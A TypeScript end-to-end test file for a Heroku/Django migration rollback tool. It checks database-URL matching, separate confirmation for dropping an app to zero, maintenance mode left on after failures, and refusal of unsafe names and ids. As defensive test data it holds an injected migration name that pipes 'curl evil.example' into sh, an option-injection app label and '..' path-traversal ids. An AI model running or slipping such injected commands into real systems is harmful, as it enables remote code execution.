// The rollback's guard rails, end to end against the Heroku emulator and a real PostgreSQL: one
// database for the plan and the migrations, names that cannot become options, a `→ zero` that is
// confirmed on its own, maintenance left on after any failure, and a plan an operator can act on
// at 2 a.m.
import { describe, expect, it } from "vitest";
import { Client } from "pg";
import { HerokuClient } from "../../providers/heroku/client";
import { EXPECTED_PLAN } from "./fixtures";
import { APP, djangoOutput, migrateCommands, useRollbackWorld } from "./harness";

const world = useRollbackWorld();
const { rollback } = world;
const EXECUTE = ["--stack", "prod", "--to", "41", "--execute", "--maintenance", "--yes"];

/** A URL of the test server with another user or database, as an operator might paste one. */
function urlWith(parts: { user?: string; password?: string; database?: string }): string {
  const url = new URL(world.pg().url);
  if (parts.user) url.username = parts.user;
  if (parts.password) url.password = parts.password;
  if (parts.database) url.pathname = `/${parts.database}`;
  return url.toString();
}

async function createDatabase(name: string): Promise<void> {
  await world.pg().query(`create database ${name}`);
  const client = new Client({ connectionString: urlWith({ database: name }) });
  await client.connect();
  try {
    // A database with a history of its own: a plan read from it would differ.
    await client.query(
      "create table django_migrations (id serial primary key, app varchar(255), name varchar(255), applied timestamptz)",
    );
    await client.query(
      "insert into django_migrations (app, name, applied) values ('billing', '0001_initial', '2026-11-21T00:00:00Z')",
    );
  } finally {
    await client.end();
  }
}

describe("--database-url must be the app's own database", () => {
  it("refuses another database on the same server, before reading it or changing anything", async () => {
    await createDatabase("other_copy");
    try {
      const run = await rollback([
        ...EXECUTE,
        "--database-url",
        urlWith({ database: "other_copy" }),
      ]);
      expect(run.code).toBe(1);
      const port = world.pg().port;
      expect(run.err).toEqual([
        `refused: --database-url points at 127.0.0.1:${port}/other_copy, but ${APP}'s ` +
          `DATABASE_URL points at 127.0.0.1:${port}/gyana: the plan would be read from one ` +
          `database while \`migrate\` changes the other. Leave out --database-url to use the ` +
          `app's own. Nothing was changed.`,
      ]);
      expect(run.out).toEqual([]);
      expect(world.emu().writes()).toBe(0);
    } finally {
      await world.pg().query("drop database other_copy");
    }
  });

  it("refuses another host serving a database of the same name", async () => {
    const run = await rollback([
      "--stack",
      "prod",
      "--to",
      "41",
      "--database-url",
      "postgres://u:hunter2@db.example.invalid:5432/gyana",
    ]);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toMatch(
      /^refused: --database-url points at db\.example\.invalid:5432\/gyana, but gyana-beta's DATABASE_URL points at 127\.0\.0\.1:\d+\/gyana: /,
    );
    expect(run.err.join("\n")).not.toContain("hunter2");
  });

  it("accepts another credential for the same host and database, and never prints either URL", async () => {
    await world.pg().query("create role rollback_reader login password 'r3ader-pw'");
    await world.pg().query("grant select on django_migrations to rollback_reader");
    try {
      const url = urlWith({ user: "rollback_reader", password: "r3ader-pw" });
      const run = await rollback(["--stack", "prod", "--to", "41", "--database-url", url]);
      expect(run.err.filter((l) => /^(error|refused)/.test(l))).toEqual([]);
      expect(run.code).toBe(0);
      for (const m of EXPECTED_PLAN) {
        expect(run.out.join("\n")).toMatch(new RegExp(`  ${m.app} +→ ${m.name} `));
      }
      const all = [...run.out, ...run.err].join("\n");
      expect(all).not.toContain("r3ader-pw");
      expect(all).not.toContain(world.pg().url);
    } finally {
      await world.pg().query("drop owned by rollback_reader");
      await world.pg().query("drop role rollback_reader");
    }
  });

  it("refuses a --database-url it cannot check because the app has no DATABASE_URL", async () => {
    delete world.emu().state.app(APP).configVars["DATABASE_URL"];
    const run = await rollback(["--stack", "prod", "--to", "41", "--database-url", world.pg().url]);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toBe(
      `refused: ${APP} has no DATABASE_URL config var, so --database-url cannot be checked ` +
        `against the database its dynos migrate. Nothing was changed.`,
    );
  });
});

describe("the command line", () => {
  it("refuses --stack together with --app instead of letting one win", async () => {
    const run = await rollback(["--stack", "staging", "--app", APP, "--to", "41"]);
    expect(run.code).toBe(2);
    expect(run.err[0]).toMatch(
      /^error: give --stack or --app, not both: --stack staging and --app gyana-beta could name different apps\n\nUsage:/,
    );
    expect(world.emu().requests).toEqual([]);
  });

  it("refuses an --app that is not an app name or id, before any request", async () => {
    for (const hostile of ["..", "", "gyana-beta/releases"]) {
      const run = await rollback(["--app", hostile, "--to", "41"]);
      expect(run.code).toBe(2);
      expect(run.err[0]).toContain(
        `error: --app ${JSON.stringify(hostile)} is not a Heroku app; allowed: an app name ` +
          "(3-30 of a-z, 0-9, -, starting with a letter) or a Heroku id (uuid)\n\nUsage:",
      );
    }
    expect(world.emu().requests).toEqual([]);
  });

  it("never suggests a database URL from the shell when it says how to resume", async () => {
    world.emu().state.onDyno = (command) =>
      command.includes(" projects ")
        ? { exitCode: 1, output: ["boom"] }
        : { exitCode: 0, output: djangoOutput(command) };
    const run = await rollback([
      ...EXECUTE,
      "--allow-zero",
      "nodes",
      "--database-url",
      world.pg().url,
    ]);
    expect(run.code).toBe(1);
    const err = run.err.join("\n");
    expect(err).not.toContain('DATABASE_URL"');
    expect(err).not.toContain("$DATABASE_URL");
    expect(err).not.toContain("postgres://");
    expect(err).toContain(
      "  npm run rollback -- --stack prod --to 41 --execute --maintenance --allow-zero nodes",
    );
  });
});

describe("a step that takes an app to zero", () => {
  it("stands out in the plan", async () => {
    const run = await rollback(["--stack", "prod", "--to", "41"]);
    expect(run.code).toBe(0);
    const text = run.out.join("\n");
    expect(text).toMatch(
      /  nodes +→ zero +\(unapplies EVERY migration of nodes: 0002_node_error, 0001_initial; drops its tables and their data\)/,
    );
    expect(text).toContain(
      "WARNING: nodes goes back to zero: every one of its migrations is unapplied, which drops " +
        "its tables and the data in them. --execute asks you to confirm it separately " +
        "(--allow-zero nodes without a terminal).",
    );
  });

  it("is refused with --yes alone, changing nothing", async () => {
    const run = await rollback(EXECUTE);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toBe(
      "refused: the plan takes nodes to zero (unapplies every migration of nodes, dropping its " +
        "tables and their data), and nobody confirmed it: add --allow-zero nodes, or run on a " +
        "terminal without --yes to be asked. Nothing was changed.",
    );
    expect(world.emu().writes()).toBe(0);
  });

  it("is asked for on a terminal after the app name, and a wrong answer changes nothing", async () => {
    const run = await rollback(["--stack", "prod", "--to", "41", "--execute", "--maintenance"], {
      interactive: true,
      answers: [APP, "yes"],
    });
    expect(run.asked).toEqual([
      `Roll ${APP} back to v41, reversing 5 app(s)' migrations? Type ${APP} to continue: `,
      "nodes goes back to zero: every migration of nodes is unapplied and its tables are " +
        "dropped with their data. Type nodes to continue: ",
    ]);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toBe("refused: confirmation did not match nodes. Nothing was changed.");
    expect(world.emu().writes()).toBe(0);
  });

  it("goes ahead when confirmed on the terminal", async () => {
    const typed = await rollback(["--stack", "prod", "--to", "41", "--execute", "--maintenance"], {
      interactive: true,
      answers: [APP, "nodes"],
    });
    expect(typed.code).toBe(0);
    expect(world.dynoCommands()).toEqual(migrateCommands(EXPECTED_PLAN));
  });
});

describe("names from django_migrations", () => {
  it("are refused before any step when they are not Django identifiers", async () => {
    await world.pg().query(
      `insert into django_migrations (app, name, applied) values
         ('--database=other', '0001_initial', '2026-11-21T00:00:00Z'),
         ('reports', '0002_x; curl evil.example | sh', '2026-11-21T00:00:01Z'),
         ('reports', '0001_initial', '2021-01-01T00:00:00Z')`,
    );
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toBe(
      "error: django_migrations holds names that are not Django identifiers, so they are not " +
        'passed to manage.py: migration "0002_x; curl evil.example | sh" of app "reports" (a ' +
        'migration name is letters, digits and underscores); app "--database=other" (an app ' +
        "label is a Python identifier). Check the table: a real migration never has such a name.",
    );
    expect(world.emu().writes()).toBe(0);
  });

  it("reach manage.py after `--`, so none can be read as an option", async () => {
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(0);
    expect(world.dynoCommands()[0]).toBe("python manage.py migrate -- nodes zero");
  });
});

describe("after any failure, maintenance mode stays on", () => {
  it("when a migrate fails: it says so, and how to finish or to turn it off", async () => {
    world.emu().state.onDyno = (command) =>
      command.includes(" projects ")
        ? { exitCode: 1, output: ["django.db.utils.IntegrityError"] }
        : { exitCode: 0, output: djangoOutput(command) };
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(world.emu().state.app(APP).maintenance).toBe(true);
    expect(world.writes().filter((w) => w.startsWith("PATCH"))).toEqual([
      `PATCH /apps/${APP} {"maintenance":true}`,
    ]);
    const err = run.err.join("\n");
    expect(err).toContain(
      `Maintenance mode is still ON for ${APP}: the rollback stopped part way, so the database ` +
        `may be half reversed under code that expects it whole. Finish the rollback (below), or, ` +
        `once you are sure the site is safe to serve, turn it off: heroku maintenance:off --app ${APP}`,
    );
    expect(err).toContain(
      `  heroku run --app ${APP} -- python manage.py migrate -- projects 0030_project_cname`,
    );
  });

  it("when the code rollback fails after the migrations were reversed", async () => {
    world.emu().faults.inject({ method: "POST", path: `/apps/${APP}/releases`, status: 422 });
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(world.emu().state.app(APP).maintenance).toBe(true);
    const err = run.err.join("\n");
    expect(err).toContain(`Maintenance mode is still ON for ${APP}`);
    expect(err).toContain(
      `The migrations were reversed; the code was not rolled back. Finish with: heroku rollback v41 --app ${APP}`,
    );
  });

  it("when the Heroku API fails part way", async () => {
    world.emu().faults.inject({ method: "POST", path: `/apps/${APP}/dynos`, status: 422 });
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(world.emu().state.app(APP).maintenance).toBe(true);
    expect(run.err.join("\n")).toContain(
      "  npm run rollback -- --stack prod --to 41 --execute --maintenance --allow-zero nodes",
    );
  });
});

describe("a plan for 2 a.m.", () => {
  it("says which background dynos keep running in maintenance mode, and how to stop and restart them", async () => {
    const formation = world.emu().state.app(APP).formation;
    formation.get("worker")!.quantity = 2;
    formation.get("beat")!.quantity = 1;
    const run = await rollback(["--stack", "prod", "--to", "41"]);
    expect(run.code).toBe(0);
    expect(run.out.join("\n")).toContain(
      "Maintenance mode stops web requests only: beat (1) and worker (2) keep running and may " +
        "use the tables being changed. To stop them first: heroku ps:scale beat=0 worker=0 " +
        `--app ${APP}; afterwards: heroku ps:scale beat=1 worker=2 --app ${APP}`,
    );
  });

  it("warns about a target far back", async () => {
    const run = await rollback(["--stack", "prod", "--to", "30"]);
    expect(run.code).toBe(0);
    expect(run.out.join("\n")).toContain(
      "WARNING: v30 is 13 releases back (created 2026-01-30T00:00:00Z, 294 days before the " +
        "latest, v43): every one of them is undone and 6 apps' migrations are reversed, 1 to " +
        "zero. Check this is the release you mean (heroku releases --app gyana-beta).",
    );
  });

  it("says what to do and what not, in operator words; API detail only with --verbose", async () => {
    const plain = await rollback(["--stack", "prod", "--to", "41", "--maintenance"]);
    const text = plain.out.join("\n");
    expect(text).toContain("7. roll the code back to v41 and wait for its release to succeed");
    expect(text).not.toContain("POST ");
    expect(text).toContain(
      "Until the rollback is done and checked: merge nothing to main, and approve no waiting Up " +
        "deployment (an Up that changes config vars makes a release whose release phase runs " +
        "migrate).",
    );
    const verbose = await rollback(["--stack", "prod", "--to", "41", "--maintenance", "--verbose"]);
    expect(verbose.out.join("\n")).toContain(
      `7. roll the code back to v41 and wait for its release to succeed (POST /apps/${APP}/releases {"release": "${world.ids()[41]}"})`,
    );
  });
});

describe("ids from Heroku's answers", () => {
  // An id of `..` in an answer, percent-encoded with encodeURIComponent, stays `..`, and every URL
  // parser resolves it as "the parent": `/releases/../config-vars` would read the app's current
  // config vars. Ids are checked to be uuids (Heroku's schema) before a path is built from them.
  it("refuses a target release whose id is not a uuid, before reading the database or changing anything", async () => {
    const client = new HerokuClient({ token: world.emu().token, baseUrl: world.emu().url });
    const releases = await client.list<{ id: string; version: number }>(`/apps/${APP}/releases`);
    world.emu().faults.inject({
      method: "GET",
      path: `/apps/${APP}/releases`,
      status: 200,
      body: releases.map((r) => (r.version === 41 ? { ...r, id: ".." } : r)),
    });
    world.emu().resetCounts();
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(run.err.at(-1)).toBe(
      `error: Heroku API returned ".." as the id of release v41 of ${APP}; expected a uuid`,
    );
    expect(run.out).toEqual([]);
    expect(world.emu().requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      `GET /apps/${APP}/releases`,
    ]);
  });

  it("refuses a one-off dyno whose id is not a uuid instead of polling another path", async () => {
    // The dyno's log never shows an exit line, so the command waits for the dyno by its id.
    world.emu().faults.inject({
      method: "POST",
      path: `/apps/${APP}/dynos`,
      status: 201,
      body: { id: "..", name: "run.7777", state: "starting", type: "run" },
    });
    const run = await rollback([...EXECUTE, "--allow-zero", "nodes"]);
    expect(run.code).toBe(1);
    expect(run.err).toContain(
      `FAILED: Heroku API returned ".." as the id of one-off dyno run.7777 of ${APP}; expected a uuid`,
    );
    expect(
      world
        .emu()
        .requests.filter((r) => r.method === "GET" && r.path.startsWith(`/apps/${APP}/dynos`)),
    ).toEqual([]);
    expect(world.emu().state.app(APP).maintenance).toBe(true);
  });
});
